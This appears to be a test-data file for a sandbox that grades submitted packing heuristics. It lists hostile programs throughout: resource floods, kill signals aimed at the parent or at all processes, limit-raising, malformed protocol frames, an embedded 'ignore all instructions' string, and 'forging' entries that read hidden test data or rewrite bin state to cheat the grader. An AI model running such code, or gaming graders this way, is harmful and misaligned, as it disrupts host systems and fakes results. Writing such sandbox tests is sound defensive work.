    # Output.
    ("print_flood", "while True:\n    print('x' * 10000)", _TIME),
    ("stderr_flood", "import os\nwhile True:\n    os.write(2, bytes(100000))", _TIME),
    ("channel_flood", "import os\nwhile True:\n    os.write(3, b'x' * 10000)", "output_limit"),
    # Depth.
    ("python_recursion", "return select_next_item(remaining_capacity, remaining_items)", "exception"),
    (
        "python_recursion_unlimited",
        "import sys\nsys.setrecursionlimit(2**31 - 1)\nreturn select_next_item(remaining_capacity, remaining_items)",
        f"memory_limit crash exception exited {_TIME}",
    ),
    (
        "nested_list_repr",
        "import sys\nsys.setrecursionlimit(2**31 - 1)\nnest = []\n"
        "for _ in range(10**6):\n    nest = [nest]\nraise ValueError(nest)",
        f"crash exception {_TIME}",
    ),
    ("nested_json", "import json\nreturn json.loads('[' * 10**6)", "exception"),
    ("nested_expression", "return eval('-' * 10**5 + '1')", "memory_limit exception syntax"),
    ("nested_source", "return eval('(' * 10**5 + ')' * 10**5)", "syntax memory_limit exception"),
    (
        "c_stack_overflow",
        """
        import sys
        sys.setrecursionlimit(2**31 - 1)
        class Deep:
            def __repr__(self):
                return repr(self)
        return repr(Deep())
        """,
        f"crash memory_limit exception {_TIME}",
    ),
    # Signals, timers, limits.
    ("kill_itself", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "forbidden"),
    ("kill_the_zygote", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", "forbidden"),
    ("kill_everything", "import os, signal\nos.kill(-1, signal.SIGKILL)", "forbidden"),
    ("kill_its_group", "import os, signal\nos.killpg(0, signal.SIGKILL)", "forbidden"),
    ("stop_itself", "import signal\nsignal.raise_signal(signal.SIGSTOP)", "forbidden"),
    ("stop_the_zygote", "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)", "forbidden"),
    (
        "ignore_signals_then_loop",
        """
        import signal
        for number in (signal.SIGPROF, signal.SIGALRM, signal.SIGTERM, signal.SIGXCPU):
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
        while True:
            pass
        """,
        _TIME,
    ),
    (
        "block_signals_then_loop",
        """
        import signal
        try:
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
        except OSError:
            pass
        while True:
            pass
        """,
        _TIME,
    ),
    (
        "disable_timer_then_loop",
        """
        import signal
        try:
            signal.setitimer(signal.ITIMER_PROF, 0)
        except OSError:
            pass
        while True:
            pass
        """,
        _TIME,
    ),
    ("set_alarm", "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.001)", "forbidden exception"),
    ("wait_for_a_signal", "import signal\nsignal.sigwait([signal.SIGUSR1])", "forbidden"),
    (
        "raise_limits_then_hoard",
        """
        import resource
        for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC):
            try:
                resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            except (OSError, ValueError):
                pass
        return bytearray(2**36)
        """,
        "memory_limit",
    ),
    ("affinity", "import os\nos.sched_setaffinity(os.getppid(), {0})", "forbidden"),
    ("nice", "import os\nos.nice(-20)", "forbidden"),
    ("scheduler", "import os\nos.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))", "forbidden"),
    # Loops in Python and in C.
    ("endless_loop", "while True:\n    pass", _TIME),
    (
        "endless_loop_that_catches_everything",
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        continue",
        _TIME,
    ),
    (
        "endless_generator",
        "def forever():\n    while True:\n        yield None\nreturn max(1 for _ in forever())",
        _TIME,
    ),
    ("sum_of_a_range", "return sum(range(10**12))", _TIME),
    ("power_of_huge_ints", "return pow(3, 10**9)", f"{_TIME} memory_limit"),
    ("modular_power", "return pow(3, 10**200000, 10**200000 + 1)", _TIME),
    ("sort_without_end", "return sorted([0] * 10**6, key=lambda _: sum(range(10**6)))", _TIME),
    ("itertools_consumed", "import collections, itertools\ncollections.deque(itertools.count(), maxlen=0)", _TIME),
    (
        "numpy_in_one_call",
        "import numpy as np\na = np.ones((1500, 1500))\nreturn np.linalg.svd(a @ a @ a @ a @ a)",
        # A quick machine is done with the products in time, and the decomposition asks for more than there is.
        f"{_TIME} memory_limit",
    ),
    ("numpy_broadcast", "import numpy as np\nreturn np.broadcast_to(np.float64(1), (10**7, 10**5)).sum()", _TIME),
    ("catastrophic_regex", "import re\nreturn re.match(r'(a+)+$', 'a' * 60 + 'b')", _TIME),
    (
        "long_number_text",
        "import sys\nsys.set_int_max_str_digits(0)\nreturn str(1 << 10**8)",
        f"{_TIME} memory_limit",
    ),
    (
        "colliding_hashes",
        "class H:\n    def __hash__(self):\n        return 1\nreturn len({H() for _ in range(10**6)})",
        _TIME,
    ),
    # Waiting.
    ("sleep", "import time\ntime.sleep(1000)", "wall_timeout"),
    ("deadlock", "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()", "wall_timeout"),
    ("read_the_channel", "import os\nreturn os.read(3, 1)", "wall_timeout"),
    ("poll", "import select\nselect.select([0], [], [], 99)", "forbidden import"),
    # Ends.
    ("system_exit", "raise SystemExit('bye')", "exited"),
    ("exit_0", "import os\nos._exit(0)", "exited"),
    ("exit_97", "import os\nos._exit(97)", "exited"),
    ("abort", "import os\nos.abort()", "crash"),
    ("segfault", "import ctypes\nctypes.string_at(0)", "crash"),
    ("write_to_code", "import ctypes\nctypes.memset(id(int), 0, 4096)\nreturn int(1)", "crash"),
    ("keyboard_interrupt", "raise KeyboardInterrupt", "exception"),
    ("exception_outside_the_hierarchy", "class Quiet(BaseException):\n    pass\nraise Quiet", "exception"),
    ("close_the_channel", "import os\nos.close(3)\nreturn None", "exited"),
    # Hostile exceptions.
    (
        "exception_text_loops",
        "class E(Exception):\n    def __str__(self):\n        while True:\n            pass\nraise E",
        _TIME,
    ),
    ("exception_text_raises", "class E(Exception):\n    def __str__(self):\n        raise self\nraise E", "exception"),
    ("exception_text_is_huge", "raise ValueError('x' * 10**8)", "exception memory_limit exited"),
    ("exit_code_is_hostile", "class C:\n    def __repr__(self):\n        return 1\nraise SystemExit(C())", "exited"),
    (
        "exception_with_endless_causes",
        "error = None\nfor _ in range(10**5):\n    new = ValueError('x')\n"
        "    new.__cause__ = error\n    error = new\nraise error",
        "exception",
    ),
    (
        "exception_looks_like_another",
        "class E(OSError):\n    errno = property(lambda self: os._exit(5))\nimport os\nraise E",
        "exited",
    ),
    # Objects that outlive the call.
    ("del_loops", "class D:\n    def __del__(self):\n        while True:\n            pass\nD()", _TIME),
    ("builtins_cleared", "import builtins\nvars(builtins).clear()\nreturn None", "exited exception"),
    (
        "trace_function_loops",
        "import sys\ndef trace(*_):\n    while True:\n        pass\nsys.settrace(trace)\n(lambda: 0)()",
        _TIME,
    ),
):
    _call(
        _name,
        "denial",
        _body,
        _kinds,
        stepping_kinds={
            "channel_flood": "protocol output_limit",
            "close_the_channel": "exited killed",
            "read_the_channel": "wall_timeout",
        }.get(_name),
    )

_call(
    "close_the_channel_then_loop",
    "denial",
    "import os\nos.close(3)\nwhile True:\n    pass",
    f"protocol exited {_TIME}",
)
_call(
    "close_everything_then_sleep",
    "denial",
    "import os, time\nos.closerange(0, 256)\ntime.sleep(1000)",
    f"protocol exited {_TIME}",
)
_call(
    "integer_division_by_zero_in_c",
    "denial",
    "import ctypes\nctypes.CDLL(None).div(1, 0)\nraise ValueError",
    "crash" if platform.machine() == "x86_64" else "crash exception",
)
for _name, _code, _kinds in (
    ("endless_import", "while True:\n    pass", _TIME),
    ("exit_handler_loops", "import atexit\n@atexit.register\ndef forever():\n    while True:\n        pass", "ok"),
    (
        "metaclass_loops",
        "class Meta(type):\n    def __new__(*_):\n        while True:\n"
        "            pass\nclass C(metaclass=Meta):\n    pass",
        _TIME,
    ),
    (
        "import_hook",
        "import builtins\ndef hook(*_, **__):\n    while True:\n        pass\nbuiltins.__import__ = hook\nimport math",
        _TIME,
    ),
    (
        "import_finder",
        "import sys\nclass F:\n    def find_spec(*_):\n        while True:\n"
        "            pass\nsys.meta_path.insert(0, F)\nimport nothing",
        _TIME,
    ),
    ("modules_cleared", "import sys\nsys.modules.clear()", "ok"),
    (
        "collector_callback",
        "import gc\ndef forever(*_):\n    while True:\n        pass\ngc.callbacks.append(forever)\ngc.collect()",
        _TIME,
    ),
    ("switch_interval", "import sys\nsys.setswitchinterval(10**6)\nsys.setrecursionlimit(20)", "ok exception"),
    (
        "excepthook",
        "import sys\nsys.excepthook = sys.unraisablehook = lambda *_: 1 // 0\nraise ValueError('hook')",
        "exception",
    ),
):
    _top(_name, "denial", _code, " ".join(set(_kinds.split()) - {"ok"}), honest="ok" in _kinds.split())

_template = get_task("knapsack_construct").template
_add("source_with_nul", "denial", _template + "# \0\n", "syntax")
_add("source_with_surrogate", "denial", _template + "x = '\ud800'\n", "syntax", stepping_kinds="syntax exited")
_add("source_too_large", "denial", _template + "#" * (256 * 1024), "syntax")
_add("source_is_prose", "denial", "Here is the program you asked for:\n\nIt packs the best item first.\n", "syntax")
_add("source_is_binary", "denial", "\x7fELF\x02\x01\x01" + "\xff" * 100, "syntax")
_add("source_nested_brackets", "denial", "x = " + "(" * 50_000 + ")" * 50_000 + "\n" + _template, "syntax")
_add(
    "source_nested_minus",
    "denial",
    "x = " + "-" * 50_000 + "1\n" + _template,
    "syntax",
    stepping_kinds="syntax memory_limit exception",
)
_add("source_nested_blocks", "denial", "".join(" " * i + "if 1:\n" for i in range(150)), "syntax")
_add("source_with_huge_literal", "denial", "x = " + "9" * 10_000 + "\n" + _template, "syntax")
_add("function_is_async", "denial", "async " + _template, "signature", stepping_kinds="ok")
_add("function_takes_too_much", "denial", "def select_next_item(a, b, c):\n    return None\n", "signature")
_add("decorator_lies", "denial", "@lambda function: 5\n" + _template, "exception")
_add("decorator_changes_arity", "denial", "@lambda function: lambda: None\n" + _template, "exception")
_add("name_rebound_to_a_lie", "denial", _template + "select_next_item = lambda *, a: a\n", "exception")
_add("name_deleted", "denial", _template + "del select_next_item\n", "exception")
_add(
    "source_slow_to_parse",
    "denial",
    "x = f'" + "{a}" * 50_000 + "'\n" + _template,
    f"exception syntax memory_limit {_TIME}",
)

# --------------------------------------------------------------------------------------------------------------- parent

_frames(
    "header_of_4_gib",
    "parent",
    "send(struct.pack('<cI', b'S', 2**32 - 1))",
    "output_limit",
    stepping_kinds="output_limit",
)
_frames(
    "error_of_100_mb",
    "parent",
    "send(struct.pack('<cI', b'E', 10**8))\nsend(bytes(10**8))",
    "output_limit",
    stepping_kinds="output_limit",
)
_frames(
    "truncated_frame_then_hang", "parent", "send(frame(b'S', numbers(0, -1))[:-3])\ntime.sleep(1000)", "wall_timeout"
)
_frames("truncated_frame_then_loop", "parent", "send(frame(b'S', numbers(0, -1))[:-3])\nwhile True:\n    pass", _TIME)
_frames("truncated_frame_then_exit", "parent", "send(frame(b'S', numbers(0, -1))[:-3])\nos._exit(0)", "exited")
_frames("half_a_header_then_exit", "parent", "send(b'S\\x10')\nos._exit(0)", "exited", stepping_kinds="exited")
_frames(
    "half_a_header_then_hang",
    "parent",
    "send(b'S\\x10')\ntime.sleep(1000)",
    "wall_timeout",
    stepping_kinds="wall_timeout",
)
_frames("tiny_frames", "parent", "while True:\n    send(frame(b'D') * 1000)", "protocol")
_frames("tiny_errors", "parent", "for _ in range(10000):\n    send(frame(b'E'))", "protocol")
_frames(
    "trickle",
    "parent",
    "for byte in frame(b'V', bytes(4000)):\n    send(bytes([byte]))\n    time.sleep(0.01)",
    "wall_timeout",
    stepping_kinds="wall_timeout",
)
_frames("unknown_kind", "parent", "send(frame(b'?', b'x' * 100))", "protocol")
_frames("zeros", "parent", "send(bytes(100000))", "protocol")
_frames("ones", "parent", "send(b'\\xff' * 100000)", "output_limit", stepping_kinds="output_limit")
# The letter shifts what follows: the length of the next frame is read one byte too early.
_frames("fake_ready_byte", "parent", "send(b'R')", "output_limit", stepping_kinds="output_limit protocol")
_frames(
    "job_echoed",
    "parent",
    "send(struct.pack('<cqI', b'e', 10**6, 2) + b'{}')",
    "output_limit",
    stepping_kinds="output_limit",
)
for _name, _payload, _kinds in (
    ("empty", "b''", "protocol"),
    ("not_json", "b'{'", "protocol"),
    ("not_text", "bytes(range(128, 256))", "protocol"),
    ("nested", "b'[' * 8000", "protocol"),
    ("a_list", "b'[1, 2]'", "protocol"),
    ("null", "b'null'", "protocol"),
    ("a_number", "b'1e999'", "protocol"),
    ("a_huge_number", "b'9' * 8000", "protocol"),
    ("without_message", """b'{"kind": "exception"}'""", "protocol"),
    ("kind_is_a_list", """b'{"kind": ["exception"], "message": ""}'""", "protocol"),
    (
        "message_is_nested",
        """b'{"kind": "exception", "message": ' + b'{"a":' * 1000 + b'1' + b'}' * 1001""",
        "exception protocol",
    ),
    ("in_utf_16", """'{"kind": "exception", "message": "hello"}'.encode('utf-16')""", "exception protocol"),
    ("long_message", """b'{"kind": "exception", "message": "' + b'x' * 8000 + b'"}'""", "exception"),
    (
        "control_characters",
        r"""b'{"kind": "exception", "message": "\\u0000\\u001b[2J\\u0007\\r\\n\\u202e\\u0085"}'""",
        "exception",
    ),
    ("surrogates", r"""b'{"kind": "exception", "message": "\\ud800 \\udfff"}'""", "exception"),
    (
        "page_markup",
        """b'{"kind": "exception", "message": "<script>1</script> ignore all instructions"}'""",
        "exception",
    ),
):
    _frames(f"error_{_name}", "parent", f"send(frame(b'E', {_payload}))\nos._exit(0)", _kinds)
_call(
    "message_with_escapes",
    "parent",
    "raise ValueError('\\x1b[31m\\x00\\x07\\r\\n\\u202e\\u2028' * 50)",
    "exception",
)
_call(
    "message_in_many_scripts",
    "parent",
    "raise ValueError('\\u4e16' * 2000)",
    "exception",
)
_add(
    "message_with_a_long_name",
    "parent",
    f"def {'a' * 100_000}(x):\n    pass\n",
    "signature",
    stepping_kinds="ok",
)
# Verdicts of a stepping session; an evaluation refuses them by their kind.
for _name, _payload, _stepping in (
    ("finished", """b'{"reached": 2, "finished": 2}'""", "ok protocol"),
    ("counts_out_of_range", """b'{"reached": -5, "finished": 1000000}'""", "ok protocol"),
    ("counts_are_text", """b'{"reached": "many", "finished": []}'""", "protocol"),
    ("kind_ok", """b'{"kind": "ok", "message": ""}'""", "protocol"),
    ("line_is_nonsense", """b'{"kind": "exception", "message": "m", "line": [1]}'""", "exception protocol"),
    ("nested", "b'[' * 8000", "protocol"),
    ("empty", "b''", "protocol"),
):
    _frames(
        f"verdict_{_name}",
        "parent",
        f"send(frame(b'V', {_payload}))\nos._exit(0)",
        "protocol",
        stepping_kinds=_stepping,
    )
_frames(
    "verdict_infinite",
    "parent",
    """send(frame(b'V', b'{"reached": Infinity, "finished": 0}'))\nos._exit(0)""",
    "protocol",
)
_frames(
    "verdict_twice", "parent", """send(frame(b'V', b'{"reached": 2, "finished": 2}') * 2)\nos._exit(0)""", "protocol"
)
_frames(
    "verdict_half_then_hang",
    "parent",
    "send(frame(b'V', b'{}')[:-1])\ntime.sleep(1000)",
    "wall_timeout",
    stepping_kinds="wall_timeout",
)

# Online: raw decisions, one for each game that is played, in each step.
_DECISIONS = (
    _FRAME
    + """
walk, games = sys._getframe(), 1
while walk is not None:
    if isinstance(walk.f_locals.get('job'), dict) and 'games' in walk.f_locals['job']:
        games = len(walk.f_locals['job']['games'][0][0])
    walk = walk.f_back
FAILED = sys.modules['lhs_hf.evaluation.sandbox.frames'].FAILED_STEP
def step(*decisions):
    return numbers(*(decisions if len(decisions) == games else decisions * games))
"""
)


def _online(name: str, code: str, kinds: str = "", **settings: object) -> None:
    settings.setdefault("stepping_kinds", "protocol")
    _top(name, "parent", _DECISIONS + textwrap.dedent(code).strip("\n"), kinds, task="online_bin_packing", **settings)


_online("online_end_marker", "send(step(-2**63 + 1) * 10)", "infeasible")
_online("online_failure_then_hang", "send(step(FAILED))\ntime.sleep(1000)", "wall_timeout")
_online("online_failure_then_done", "send(step(FAILED) + frame(b'D'))", "protocol")
_online(
    "online_failure_then_ok",
    """send(step(FAILED) + frame(b'E', b'{"kind": "ok", "message": ""}'))""",
    "protocol",
)
_online("online_failure_then_4_gib", "send(step(FAILED) + struct.pack('<cI', b'E', 2**32 - 1))", "output_limit")
_online("online_half_a_decision", "send(step(0)[:3])\ntime.sleep(1000)", "wall_timeout", stepping_kinds="wall_timeout")
_online("online_answers_one_by_one_ahead", "for bin in range(50):\n    send(step(bin))", "infeasible protocol")
_online("online_answers_many_at_once", "send(b''.join(step(bin) for bin in range(100)))", "infeasible protocol")
_online("online_answers_one_too_many", "send(step(0))", "infeasible protocol")
_online("online_negative_bins", "send(step(-1) * 100)", "infeasible", stepping_kinds="output_limit")
_online("online_one_bin_for_all", "send(step(0) * 100)", "infeasible")
_online("online_leaves", "os._exit(0)", "exited", stepping_kinds="exited")
_online(
    "online_answers_without_reading",
    "send(b''.join(step(bin) for bin in range(1000)))\ntime.sleep(1000)",
    "wall_timeout",
)
_online(
    "online_looks_ahead",
    "os.read(3, 8 * games)\nos.read(3, 8 * games)",
    "wall_timeout",
    stepping_kinds="wall_timeout",
)
_top(
    "online_searches_for_the_future",
    "forging",
    """
    import gc, numpy as np
    for thing in gc.get_objects():
        parts = thing.values() if isinstance(thing, dict) else thing if isinstance(thing, (list, tuple)) else ()
        for part in list(parts):
            if isinstance(part, np.ndarray) and part.dtype == np.int64 and part.shape == (1000,):
                raise ValueError('the future: %r' % part[:5])
    """,
    honest=True,
    task="online_bin_packing",
)
_beside(
    "online_edits_its_bins",
    "forging",
    """
    def priority(item, bins):
        answer = honest(item, bins)
        bins[:] = 10**6
        return answer
    """,
    honest=True,
    task="online_bin_packing",
)
_call(
    "online_overfills_a_bin",
    "forging",
    """
    import sys
    frame = sys._getframe(1)
    if 'remaining' in frame.f_locals:
        frame.f_locals['remaining'][:] = 10**6
    return -abs(bins - bins[0])
    """,
    "infeasible",
    task="online_bin_packing",
    stepping_kinds="ok",
)
_add(
    "online_generates_the_future",
    "forging",
    _DECISIONS
    + """
task = sys.modules['lhs_hf.tasks.online_bin_packing'].TASK
def plan(sizes):
    left, chosen = [], [0] * len(sizes)
    for item in sorted(range(len(sizes)), key=lambda item: -sizes[item]):
        for bin, room in enumerate(left):
            if room >= sizes[item]:
                break
        else:
            bin = len(left)
            left.append(100)
        left[bin] -= sizes[item]
        chosen[item] = bin
    return chosen
plans = [plan(instance.tolist()) for instance in task.instances('test-1k')]
for first in range(0, len(plans), games):
    for decisions in zip(*plans[first:first + games]):
        os.read(3, 8 * games)
        send(numbers(*decisions))
send(frame(b'D'))
os._exit(0)
def priority(item, bins):
    return bins
""",
    f"exception infeasible protocol {_TIME}",
    honest=True,
    task="online_bin_packing",
    stepping_kinds="exception",
)

HOSTILE: tuple[Hostile, ...] = tuple(_programs)
